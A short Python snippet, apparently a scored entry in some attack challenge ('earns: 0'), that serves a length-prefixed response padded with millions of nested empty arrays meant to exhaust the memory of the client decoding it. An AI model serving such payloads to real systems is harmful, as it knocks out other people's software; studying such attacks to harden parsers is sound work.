# tries: exhaust the memory of whoever decodes the answer
# earns: 0
text = b'[{"value":["l"' + b",[]" * (2 << 20) + b"]},[]]"
serve(lambda request: struct.pack("!IQ", len(text), 0) + text)
